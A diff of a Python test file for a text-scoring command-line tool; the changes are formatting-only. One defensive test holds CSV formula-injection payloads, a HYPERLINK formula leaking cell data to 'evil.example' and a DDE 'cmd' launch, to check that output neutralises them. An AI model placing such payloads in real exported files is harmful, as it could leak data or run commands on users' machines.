@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import json
-import math
 import os
 import signal
 import stat
@@ -121,7 +120,7 @@ def test_item1_a_crlf_split_across_read_blocks_is_one_line_end(tmp_path, engine,
 # ---------------------------------------------------------------------------- 2. output round-trips
 
 
-NASTY_TEXTS = ["CNC\rlathe", "FPGA\nboard", "x\r\r\ny", "lens\u2028prism", "tab\tcomma,quote\"", "plain optics", "\x85nel"]
+NASTY_TEXTS = ["CNC\rlathe", "FPGA\nboard", "x\r\r\ny", "lens\u2028prism", 'tab\tcomma,quote"', "plain optics", "\x85nel"]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "tsv", "jsonl"])
@@ -214,8 +213,22 @@ def test_item4_a_killed_worker_is_an_internal_failure_not_a_traceback(tmp_path, 
     out = tmp_path / "out.csv"
     set_default_engine(_KillingEngine(engine.taxonomy))
     try:
-        code = main(["score", str(src), "-o", str(out), "--text-column", "description", "--progress", "never",
-                     "--jobs", "2", "--chunk-size", "10"])
+        code = main(
+            [
+                "score",
+                str(src),
+                "-o",
+                str(out),
+                "--text-column",
+                "description",
+                "--progress",
+                "never",
+                "--jobs",
+                "2",
+                "--chunk-size",
+                "10",
+            ]
+        )
     finally:
         set_default_engine(None)
     err = capsys.readouterr().err
@@ -236,16 +249,42 @@ def test_item4_an_unexpected_error_is_one_line_and_debug_shows_the_traceback(tmp
     assert _cli(src, tmp_path / "o.csv") == EXIT_INTERNAL
     err = capsys.readouterr().err
     assert "internal error" in err and "Traceback" not in err
-    assert main(["--debug", "score", str(src), "-o", str(tmp_path / "o.csv"), "--text-column", "description",
-                 "--jobs", "1", "--progress", "never"]) == EXIT_INTERNAL
+    assert (
+        main(
+            [
+                "--debug",
+                "score",
+                str(src),
+                "-o",
+                str(tmp_path / "o.csv"),
+                "--text-column",
+                "description",
+                "--jobs",
+                "1",
+                "--progress",
+                "never",
+            ]
+        )
+        == EXIT_INTERNAL
+    )
     assert "Traceback" in capsys.readouterr().err
 
 
 def test_item4_a_closed_stdout_pipe_ends_quietly(tmp_path) -> None:
     src = tmp_path / "in.csv"
     src.write_text("id,description\n" + "".join(f"{i},CNC lathe\n" for i in range(20_000)))
-    proc = _child("score", str(src), "-o", "-", "--text-column", "description", "--jobs", "1",
-                  stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    proc = _child(
+        "score",
+        str(src),
+        "-o",
+        "-",
+        "--text-column",
+        "description",
+        "--jobs",
+        "1",
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     proc.stdout.read(10)
     proc.stdout.close()
     with proc.stderr:
@@ -284,8 +323,19 @@ def _wait_for(predicate, seconds: float) -> bool:
 def test_item4_item6_sigint_and_sigterm_end_quietly_and_clean_up(tmp_path, sig, code) -> None:
     src = _big_csv(tmp_path / "big.csv")
     out = tmp_path / "out.csv"
-    proc = _child("score", str(src), "-o", str(out), "--text-column", "description", "--jobs", "2",
-                  "--chunk-size", "2000", stderr=subprocess.PIPE)
+    proc = _child(
+        "score",
+        str(src),
+        "-o",
+        str(out),
+        "--text-column",
+        "description",
+        "--jobs",
+        "2",
+        "--chunk-size",
+        "2000",
+        stderr=subprocess.PIPE,
+    )
     assert _wait_for(lambda: any(p.name.endswith(".part") for p in tmp_path.iterdir()), 60)
     workers = _children(proc.pid)
     proc.send_signal(sig)
@@ -366,8 +416,19 @@ def test_item5_dev_null_is_written_to_not_replaced(tmp_path, engine) -> None:
 
 
 def test_item5_dash_reads_stdin_and_writes_stdout_with_the_summary_on_stderr() -> None:
-    proc = _child("score", "-", "-o", "-", "--text-column", "description", "--jobs", "1",
-                  stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    proc = _child(
+        "score",
+        "-",
+        "-o",
+        "-",
+        "--text-column",
+        "description",
+        "--jobs",
+        "1",
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
     out, err = proc.communicate(b"id,description\n1,CNC lathe\n2,cotton shirt\n", timeout=120)
     assert proc.returncode == EXIT_OK, err
     rows = list(csv.reader(io.StringIO(out.decode())))
@@ -398,8 +459,7 @@ def test_item7_truncated_rows_say_so_in_file_output_and_summary(tmp_path) -> Non
 
 def test_item10_formula_cells_are_neutralised_in_csv_and_tsv(tmp_path, engine) -> None:
     src = tmp_path / "in.jsonl"
-    evil = ['=HYPERLINK("http://evil.example/?d="&A2,"CNC lathe")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
-            "\t=1", "\r=1"]
+    evil = ['=HYPERLINK("http://evil.example/?d="&A2,"CNC lathe")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
     plain = ["-12.5", "+44", "CNC lathe", "1e-3"]
     src.write_text("".join(json.dumps({"id": i, "description": t, "note": t}) + "\n" for i, t in enumerate(evil + plain)))
     for fmt, delim in (("csv", ","), ("tsv", "\t")):
@@ -516,7 +576,7 @@ def test_item17_an_overlong_json_line_is_refused_early_with_bounded_memory(tmp_p
     monkeypatch.setattr(lines_module, "MAX_LINE_BYTES", 2 << 20)
     src = tmp_path / "array.jsonl"
     with open(src, "w") as fh:  # one 24 MB JSON array on a single line
-        fh.write("[" + ",".join('{"description": "CNC lathe %d"}' % i for i in range(800_000)) + "]")
+        fh.write("[" + ",".join(f'{{"description": "CNC lathe {i}"}}' for i in range(800_000)) + "]")
     tracemalloc.start()
     with pytest.raises(InputFileError, match="longer than"):
         _score(engine, src, tmp_path / "o.jsonl")
